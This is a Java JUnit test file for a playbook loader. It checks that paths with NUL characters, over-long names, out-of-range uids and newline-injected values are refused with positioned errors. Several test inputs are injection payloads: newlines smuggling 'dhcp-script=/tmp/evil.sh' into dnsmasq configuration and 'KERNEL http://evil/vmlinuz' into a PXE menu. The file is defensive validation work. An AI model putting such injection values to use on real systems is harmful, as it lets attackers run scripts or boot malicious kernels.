package dev.mosaic.playbook;

import dev.mosaic.cli.BuiltinKinds;
import dev.mosaic.diag.Diagnostic;
import dev.mosaic.diag.UserError;
import org.junit.jupiter.api.Test;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/**
 * Values no target could take — a path with a NUL, a name longer than Linux allows, a uid past
 * 2^32 - 2, a newline in a line of a rendered configuration — are refused when the playbook is
 * loaded (so by {@code validate}), at the value's position, instead of failing in the middle of
 * an apply or writing what the playbook did not mean.
 */
class ImpossibleValuesTest {

    private static final Path FILE = Path.of("site.yaml");

    private static List<String> errors(String yaml) {
        UserError e = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> catchThrowableOfType(
                () -> new PlaybookLoader(BuiltinKinds.create()).load(FILE, yaml, Map.of()), UserError.class));
        assertThat(e).as("rejected").isNotNull();
        return e.diagnostics().stream().map(Diagnostic::render).toList();
    }

    @Test
    void aNulInAPath_isRefusedAtTheValue() {
        assertThat(errors("""
                resources:
                  motd:
                    type: file
                    path: "/etc/mo\\0td"
                    content: hi
                """)).containsExactly("site.yaml:4:11: error: resource 'motd', field 'path': a path cannot hold a NUL"
                + " character (U+0000 at character 8)");
    }

    @Test
    void aNulInALinkTarget_isRefusedAtTheValue() {
        assertThat(errors("""
                resources:
                  l:
                    type: link
                    path: /srv/l
                    target: "/etc/pass\\0wd"
                """)).containsExactly("site.yaml:5:13: error: resource 'l', field 'target': a path cannot hold a NUL"
                + " character (U+0000 at character 10)");
    }

    @Test
    void aNewlineInADirectoryPath_isRefused() {
        assertThat(errors("""
                resources:
                  d:
                    type: directory
                    path: "/srv/a\\nb"
                """)).singleElement().asString().startsWith("site.yaml:4:11: error: resource 'd', field 'path':"
                + " a path must not hold control characters (U+000A");
    }

    @Test
    void aNameLongerThan255Bytes_isRefused() {
        assertThat(errors("""
                resources:
                  f:
                    type: file
                    path: /srv/%s
                    content: x
                """.formatted("é".repeat(128)))).singleElement().asString()
                .startsWith("site.yaml:4:11: error: resource 'f', field 'path': the name '")
                .endsWith("is 256 bytes long; a file name has at most 255");
    }

    @Test
    void aPathLongerThan4095Bytes_isRefused() {
        assertThat(errors("""
                resources:
                  f:
                    type: file
                    path: %s
                    content: x
                """.formatted("/abcdefg".repeat(512)))).containsExactly("site.yaml:4:11: error: resource 'f', field"
                + " 'path': the path is 4096 bytes long; a path has at most 4095");
    }

    @Test
    void aRelativeSourceWithANul_isRefused() {
        assertThat(errors("""
                resources:
                  f:
                    type: file
                    path: /srv/f
                    source: "files/a\\0b"
                """)).singleElement().asString().startsWith("site.yaml:5:13: error: resource 'f', field 'source':"
                + " a path cannot hold a NUL character");
    }

    @Test
    void anOwnerPastTheLargestUid_isRefusedAtTheValue() {
        assertThat(errors("""
                resources:
                  f:
                    type: file
                    path: /srv/f
                    content: x
                    owner: "99999999999999"
                """)).containsExactly("site.yaml:6:12: error: resource 'f', field 'owner': a numeric id is at most"
                + " 4294967294, got 99999999999999");
    }

    @Test
    void aGroupOfExactly2To32Minus1_isRefused_andTheLargestIdIsAccepted() {
        assertThat(errors("""
                resources:
                  d:
                    type: directory
                    path: /srv/d
                    group: 4294967295
                  e:
                    type: directory
                    path: /srv/e
                    owner: 4294967294
                    group: 0
                """)).containsExactly("site.yaml:5:12: error: resource 'd', field 'group': a numeric id is at most"
                + " 4294967294, got 4294967295");
    }

    @Test
    void anOwnerNameWithAColonOrANewline_isRefused() {
        assertThat(errors("""
                resources:
                  f:
                    type: file
                    path: /srv/f
                    content: x
                    owner: "root:x:0"
                  g:
                    type: file
                    path: /srv/g
                    content: x
                    group: "adm\\nroot"
                """)).containsExactly(
                "site.yaml:6:12: error: resource 'f', field 'owner': expected a user name or a number from 0 to"
                        + " 4294967294, got 'root:x:0'",
                "site.yaml:11:12: error: resource 'g', field 'group': expected a group name or a number from 0 to"
                        + " 4294967294, got 'adm?root'");
    }

    @Test
    void aNewlineInADnsmasqInterface_cannotInjectConfigurationLines() {
        assertThat(errors("""
                resources:
                  dhcp:
                    type: dnsmasq
                    path: /etc/dnsmasq.d/netboot.conf
                    interface: "eth1\\ndhcp-script=/tmp/evil.sh"
                """)).containsExactly("site.yaml:5:16: error: resource 'dhcp', field 'interface': must be one line"
                + " without control characters (U+000A at character 5); it is written into a configuration file"
                + " line by line");
    }

    @Test
    void aNewlineInADnsmasqNodeNameOrExtraItem_isRefusedAtItsPosition() {
        assertThat(errors("""
                resources:
                  dhcp:
                    type: dnsmasq
                    path: /etc/dnsmasq.d/netboot.conf
                    nodes:
                      - { name: "n1\\rdhcp-script=/x", mac: "52:54:00:00:00:01" }
                    extra: ["log-dhcp\\nconf-dir=/tmp"]
                """)).containsExactly(
                "site.yaml:6:17: error: resource 'dhcp': node field 'name' must be one line without control characters"
                        + " (U+000D at character 3); it is written into a configuration file line by line",
                "site.yaml:7:12: error: resource 'dhcp', field 'extra': each item must be one line without control"
                        + " characters (U+000A at character 9); it is written into a configuration file line by line");
    }

    @Test
    void aNewlineInAPxeAppend_cannotAddLoaderCommands() {
        assertThat(errors("""
                resources:
                  boot:
                    type: pxe
                    root: /srv/tftp
                    labels:
                      - { name: linux, kernel: vmlinuz, append: "quiet\\nKERNEL http://evil/vmlinuz" }
                """)).containsExactly("site.yaml:6:49: error: resource 'boot': a menu, label or node field must be one"
                + " line without control characters (U+000A at character 6); it is written into a configuration"
                + " file line by line");
    }
}
